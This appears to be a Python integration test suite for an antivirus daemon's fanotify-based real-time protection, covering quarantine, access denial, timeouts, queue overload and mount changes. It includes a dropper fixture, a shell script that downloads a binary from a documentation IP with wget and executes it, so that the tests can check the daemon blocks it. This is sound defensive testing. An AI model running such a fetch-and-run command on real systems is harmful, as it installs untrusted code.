#!/usr/bin/env python3
"""Real-time protection (agent/core/rtp, issue 12) through a real palisaded with real fanotify:
each test mounts a tmpfs (or an ext4 image) of its own and the daemon monitors only that.

- a threat written into a watched directory is quarantined after the close, and recorded
  with the writer (pid, executable, uid);
- `cat` of a threat fails with "Operation not permitted", executing a dropper script the
  same way; clean files open normally;
- with the content process stopped (SIGSTOP), 1,000 parallel openers of first-seen files each
  get an answer within RealTimeResponseTimeoutMs plus a margin, and the timeouts are counted;
- with the queue full (8,192 written files waiting for a stopped content process), an open
  is answered by RealTimeTimeoutAction at once, and the overloads are counted and reported;
- palisaded killed (SIGKILL) during a storm of opens leaves no opener waiting;
- a file changed after a clean verdict is scanned again;
- a file system mounted later at a monitored mount point is marked, and dropped when gone;
- a real-time detection is a security event (RFC 5424 record, origin RealTime, the process).
"""

import os
import re
import signal
import subprocess
import sys
import threading
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from harness import EICAR_THREAT, eicar, wait_for  # noqa: E402
from rtp_helpers import RtpTest, as_user, run_openers  # noqa: E402

DROPPER = (b"#!/bin/sh\nwget http://203.0.113.9/x -O /tmp/.rtpx\n"
           b"chmod +x /tmp/.rtpx\n/tmp/.rtpx\n")


def quarantined(path):
    return lambda: not os.path.exists(path)


class ThreatsTest(RtpTest):

    def prepare(self):
        # present before the daemon starts: nothing scanned them after a write
        os.mkdir(self.m.p("pre"))
        with open(self.m.p("pre", "eicar.txt"), "wb") as f:
            f.write(eicar())
        with open(self.m.p("pre", "drop.sh"), "wb") as f:
            f.write(DROPPER)
        os.chmod(self.m.p("pre", "drop.sh"), 0o755)
        with open(self.m.p("pre", "clean.txt"), "wb") as f:
            f.write(b"hello, nothing to see\n")
        os.chmod(self.m.p("pre"), 0o1777)

    def test_written_threat_is_quarantined_after_close(self):
        d = self.m.p("drop")
        os.mkdir(d)
        os.chmod(d, 0o1777)
        target = os.path.join(d, "e.com")
        # the writer stays a moment after its close: a process already gone when the event is
        # read cannot be named (its pid could be another's by then)
        p = as_user("nobody", sys.executable, "-c",
                    "import sys, time\nwith open(sys.argv[1], 'wb') as f:\n"
                    "    f.write(sys.stdin.buffer.read())\ntime.sleep(1)", target, input=eicar())
        self.assertEqual(p.returncode, 0, p.stderr)
        wait_for(quarantined(target), what="the written EICAR quarantined")
        t = wait_for(lambda: [x for x in self.threats() if x["file"] == target],
                     what="the detection")[0]
        self.assertEqual(t["threat"], EICAR_THREAT)
        self.assertEqual(t["source"], "RealTime")
        self.assertEqual(t["action"], "Quarantine")
        self.assertEqual(t["action_result"], "Success")
        self.assertEqual(t["process_uid"], int(subprocess.check_output(["id", "-u", "nobody"])))
        self.assertEqual(t["process_exe"], os.path.realpath(sys.executable))
        self.assertGreater(t["process_pid"], 0)
        self.assertIsNotNone(t["quarantine_id"])

    def test_cat_of_threat_denied_and_recorded(self):
        target = self.m.p("pre", "eicar.txt")
        p = as_user("nobody", "cat", target)
        self.assertNotEqual(p.returncode, 0)
        self.assertIn(b"Operation not permitted", p.stderr)
        self.assertNotIn(b"EICAR", p.stdout)
        t = wait_for(lambda: [x for x in self.threats() if x["file"] == target],
                     what="the detection")[0]
        self.assertEqual(t["source"], "RealTime")
        self.assertEqual(t["process_exe"], "/usr/bin/cat")
        self.assertEqual(t["process_uid"], int(subprocess.check_output(["id", "-u", "nobody"])))
        wait_for(quarantined(target), what="the threat quarantined after the denial")
        st = self.rt_stats()
        self.assertGreaterEqual(st["blocked"], 1)
        self.assertGreaterEqual(st["scans"], 1)

    def test_exec_of_dropper_denied(self):
        target = self.m.p("pre", "drop.sh")
        p = subprocess.run(["sh", "-c", target], capture_output=True)
        self.assertNotEqual(p.returncode, 0)
        self.assertIn(b"Operation not permitted", p.stderr)
        t = wait_for(lambda: [x for x in self.threats() if x["file"] == target],
                     what="the detection")[0]
        self.assertEqual(t["threat"], "TrojanDownloader:Linux/ShellDrop.A")
        self.assertEqual(t["source"], "RealTime")

    def test_detection_is_a_security_event(self):
        # the record an administrator's SIEM gets: origin RealTime and the process
        received = self.security_events()
        target = self.m.p("pre", "eicar.txt")
        p = as_user("nobody", "cat", target)
        self.assertIn(b"Operation not permitted", p.stderr)
        rec = wait_for(lambda: [r for r in received() if 'event="detection"' in r],
                       what="the detection record")[0]
        self.assertIn('origin="RealTime"', rec)
        self.assertIn('threat="%s"' % EICAR_THREAT, rec)
        self.assertIn('exe="/usr/bin/cat"', rec)
        self.assertIn('uid="%s"' % subprocess.check_output(["id", "-u", "nobody"]).decode().strip(),
                      rec)

    def test_clean_file_opens(self):
        target = self.m.p("pre", "clean.txt")
        for _ in range(3):
            p = as_user("nobody", "cat", target)
            self.assertEqual(p.returncode, 0, p.stderr)
            self.assertEqual(p.stdout, b"hello, nothing to see\n")
        self.assertEqual([x for x in self.threats() if x["file"] == target], [])
        self.assertTrue(os.path.exists(target))


class StalledContentProcessTest(RtpTest):
    """The content process stopped: every open is answered by the deadline."""

    N = 1000
    TIMEOUT_MS = 1000
    MARGIN_S = 3.0  # a loaded two-core machine

    def prepare(self):
        os.mkdir(self.m.p("many"))
        for i in range(self.N):
            with open(self.m.p("many", "f%04d" % i), "wb") as f:
                f.write(b"first seen %d\n" % i)

    def test_thousand_openers_answered_by_deadline(self):
        # the SIEM's record of the answers given without a verdict
        received = self.security_events()
        self.set("RealTimeResponseTimeoutMs", self.TIMEOUT_MS)
        st = self.status()
        cp = st["content_process_pid"]
        self.assertIsNotNone(cp)
        os.kill(cp, signal.SIGSTOP)
        try:
            t0 = time.monotonic()
            res = run_openers([self.m.p("many", "f%04d" % i) for i in range(self.N)],
                              timeout=60)
            wall = time.monotonic() - t0
        finally:
            os.kill(cp, signal.SIGCONT)
        lat = sorted(r[0] for r in res)
        errs = [r[1] for r in res if r[1]]
        print("\n%d openers, content process stopped, timeout %d ms: p50 %.3f s, p99 %.3f s, "
              "max %.3f s, wall %.2f s, errors %d" % (self.N, self.TIMEOUT_MS, lat[len(lat) // 2],
                                                      lat[int(len(lat) * 0.99)], lat[-1], wall,
                                                      len(errs)), file=sys.stderr)
        self.assertEqual(errs, [])  # the timeout action is Allow
        self.assertLess(lat[-1], self.TIMEOUT_MS / 1000 + self.MARGIN_S)
        # none was answered early: the broker did not parse in the stopped process's place
        # (answers come up to 10 ms before the deadline, in one pass)
        self.assertGreaterEqual(lat[0], self.TIMEOUT_MS / 1000 - 0.02)
        rs = self.rt_stats()
        self.assertGreaterEqual(rs["timeouts"] + rs["overloads"], self.N // 2, rs)
        self.assertIn("answered Allow", self.d.log())
        # every answer without a verdict is in a real-time-unchecked event, counted exactly:
        # the first at once, the rest within the 5 s period
        def all_counted():
            got = [r for r in received() if 'event="real-time-unchecked"' in r]
            n = sum(int(re.search(r' count="(\d+)"', r).group(1)) for r in got)
            return got if n == self.rt_stats()["timeouts"] + self.rt_stats()["overloads"] \
                else None
        got = wait_for(all_counted, timeout=20, what="real-time-unchecked events counting "
                                                     "every unchecked answer")
        for r in got:
            self.assertIn('message_id="a447b29bf16e42b6a3a1b916f04e3af4"', r)
            self.assertIn('action="Allow"', r)
        self.assertTrue(any('detail="no verdict within RealTimeResponseTimeoutMs"' in r
                            for r in got), got)
        print("real-time-unchecked events: %d, counting %d answers" % (
            len(got), rs["timeouts"] + rs["overloads"]), file=sys.stderr)

    def test_deny_on_timeout(self):
        self.set("RealTimeResponseTimeoutMs", 300)
        self.set("RealTimeTimeoutAction", "Deny")
        cp = self.status()["content_process_pid"]
        os.kill(cp, signal.SIGSTOP)
        try:
            res = run_openers([self.m.p("many", "f%04d" % i) for i in range(20)], timeout=30)
        finally:
            os.kill(cp, signal.SIGCONT)
        self.assertEqual(sorted(set(r[1] for r in res)), [1])  # EPERM for every one
        self.assertGreaterEqual(self.rt_stats()["timeouts"], 1)


class FullQueueTest(RtpTest):
    """The queue full: with the content process stopped, the written files' after-close scans
    pile up (each file's creating open is answered at once: an empty file needs no scan) until
    QUEUE_MAX (8,192) events are held. Then an open is answered by RealTimeTimeoutAction at
    once, not after the deadline; a written file is left unscanned; both are counted as
    overloads and in real-time-unchecked events; and the queue drains once the content
    process runs again."""

    QUEUE_MAX = 8192
    N = QUEUE_MAX + 300
    TIMEOUT_MS = 5000

    def prepare(self):
        with open(self.m.p("old.txt"), "wb") as f:
            f.write(b"a file from before the storm\n")

    def test_open_answered_at_once_when_the_queue_is_full(self):
        received = self.security_events()
        self.set("RealTimeResponseTimeoutMs", self.TIMEOUT_MS)
        cp = self.status()["content_process_pid"]
        self.assertIsNotNone(cp)
        os.kill(cp, signal.SIGSTOP)
        try:
            # the writer runs apart, so that a creating open that waited would fail the test
            # by its timeout instead of hanging it
            burst = self.m.p("burst")
            t0 = time.monotonic()
            subprocess.run([sys.executable, "-c",
                            "import os, sys\n"
                            "d = sys.argv[1]\n"
                            "os.mkdir(d)\n"
                            "for i in range(int(sys.argv[2])):\n"
                            "    with open(os.path.join(d, 'w%05d' % i), 'wb') as f:\n"
                            "        f.write(b'written in the storm %d\\n' % i)\n",
                            burst, str(self.N)], check=True, timeout=120)
            wrote = time.monotonic() - t0
            rs = wait_for(lambda: (lambda s: s if s["overloads"] >= 1 else None)(
                self.rt_stats()), timeout=60, what="the queue full")
            self.assertGreaterEqual(rs["queue_depth"], self.QUEUE_MAX - 64, rs)
            res = run_openers([self.m.p("old.txt")], timeout=30)
        finally:
            os.kill(cp, signal.SIGCONT)
        secs, err = res[0]
        rs = self.rt_stats()
        print("\n%d files written in %.2f s with the content process stopped; queue %d, "
              "overloads %d; an open then answered in %.3f s (deadline %d ms)"
              % (self.N, wrote, rs["queue_depth"], rs["overloads"], secs, self.TIMEOUT_MS),
              file=sys.stderr)
        self.assertEqual(err, 0)  # RealTimeTimeoutAction Allow
        self.assertLess(secs, self.TIMEOUT_MS / 1000 / 2)
        self.assertGreaterEqual(rs["overloads"], 2, rs)  # written files and the open
        self.assertIn("real-time protection overloaded", self.d.log())
        def both_causes():
            got = [r for r in received() if 'event="real-time-unchecked"' in r]
            opened = [r for r in got if "an open was answered by RealTimeTimeoutAction" in r]
            written = [r for r in got if "a written file was not scanned" in r]
            return (opened, written) if opened and written else None
        opened, written = wait_for(both_causes, timeout=20,
                                   what="real-time-unchecked events for both causes")
        self.assertIn('action="Allow"', opened[0])
        self.assertIn('action="None"', written[0])
        # nothing stays stuck: the held events drain once the content process runs again
        wait_for(lambda: self.rt_stats()["queue_depth"] == 0, timeout=180,
                 what="the queue drained")
        with open(self.m.p("old.txt"), "rb") as f:
            self.assertTrue(f.read().startswith(b"a file from before"))


class KilledDaemonTest(RtpTest):

    def prepare(self):
        os.mkdir(self.m.p("storm"))
        for i in range(300):
            with open(self.m.p("storm", "f%03d" % i), "wb") as f:
                f.write(b"x" * 100)

    def test_sigkill_during_storm_leaves_no_opener_waiting(self):
        cp = self.status()["content_process_pid"]
        os.kill(cp, signal.SIGSTOP)  # so that the opens are surely pending
        self.set("RealTimeResponseTimeoutMs", 30000)
        out = {}

        def storm():
            out["res"] = run_openers([self.m.p("storm", "f%03d" % i) for i in range(300)],
                                     timeout=20)
        t = threading.Thread(target=storm)
        t.start()
        wait_for(lambda: self.rt_stats()["queue_depth"] >= 50, what="opens pending")
        t_kill = time.monotonic()
        self.d.kill()
        t.join(30)
        try:
            os.kill(cp, signal.SIGKILL)
        except ProcessLookupError:
            pass
        self.assertFalse(t.is_alive(), "openers still waiting after palisaded was killed")
        res = out["res"]
        self.assertEqual([r for r in res if r[1]], [])
        print("\nSIGKILL with %d opens pending: all answered %.3f s after the kill"
              % (len(res), time.monotonic() - t_kill), file=sys.stderr)


class ChangedAfterCleanTest(RtpTest):

    def prepare(self):
        # as long as the EICAR string, which a file must hold alone (and can then replace
        # in place, keeping the size)
        for name in ("w", "t", "r", "m"):
            with open(self.m.p(name), "wb") as f:
                f.write(b"c" * len(eicar()))
        os.chown(self.m.p("m"), 65534, 65534)  # the user's own file (the trust issue)

    def opens_ok(self, path):
        with open(path, "rb") as f:
            return f.read()

    def cat_fails(self, path):
        p = subprocess.run(["cat", path], capture_output=True)
        return p.returncode != 0 and b"Operation not permitted" in p.stderr

    def test_write_truncate_rename_mmap(self):
        for name in ("w", "t", "r"):
            self.opens_ok(self.m.p(name))  # clean verdict (and, root-only, cached)
            self.opens_ok(self.m.p(name))
        st = self.rt_stats()
        self.assertGreaterEqual(st["scans"], 3)
        # the after-write scan would quarantine at once: let it act on NoAction so that the
        # open is what is checked
        for sev in ("Low", "Moderate", "High", "Severe"):
            self.set(sev + "ThreatDefaultAction", "NoAction")
        # write in place
        with open(self.m.p("w"), "r+b") as f:
            f.write(eicar())
        self.assertTrue(self.cat_fails(self.m.p("w")), self.d.log())
        # truncate, then write
        with open(self.m.p("t"), "wb") as f:
            f.write(eicar())
        self.assertTrue(self.cat_fails(self.m.p("t")))
        # rename over
        with open(self.m.p("r.new"), "wb") as f:
            f.write(eicar())
        os.rename(self.m.p("r.new"), self.m.p("r"))
        self.assertTrue(self.cat_fails(self.m.p("r")))
        # a write through a shared mapping made before the clean verdict: no event, no
        # stamp on tmpfs; the file is the user's, so it must never be trusted
        import mmap
        fd = os.open(self.m.p("m"), os.O_RDWR)
        mm = mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        mm[0:1] = b"C"
        self.opens_ok(self.m.p("m"))
        self.opens_ok(self.m.p("m"))
        mm[:] = eicar()
        try:
            self.assertTrue(self.cat_fails(self.m.p("m")))
        finally:
            mm.close()
            os.close(fd)


class MountChangeTest(RtpTest):
    """A file system mounted after the start, at a monitored mount point, is marked when
    /proc/self/mountinfo changes; unmounted, it leaves the list."""

    def prepare(self):
        self.late = os.path.join(self.m.base, "late")
        os.mkdir(self.late)

    def test_new_mount_is_marked(self):
        # restart with both mount points monitored (the first start had only self.m)
        self.d.stop()
        self.d.write_policy(harness.Daemon.RTP_PATHS_POLICY,
                            {"RealTimeMonitoredPaths": [self.m.path, self.late]})
        self.d.start()
        self.wait_enabled()
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16m,mode=1777", "tmpfs", self.late],
                       check=True)
        try:
            wait_for(lambda: self.late in self.rt_stats()["file_systems"],
                     what="the new mount marked")
            target = os.path.join(self.late, "e.com")
            with open(target, "wb") as f:
                f.write(eicar())
            wait_for(quarantined(target), what="a threat written there quarantined")
        finally:
            subprocess.run(["umount", "-l", self.late])
        wait_for(lambda: self.rt_stats()["file_systems"] == [self.m.path],
                 what="the unmounted file system gone from the list")


if __name__ == "__main__":
    harness.main()
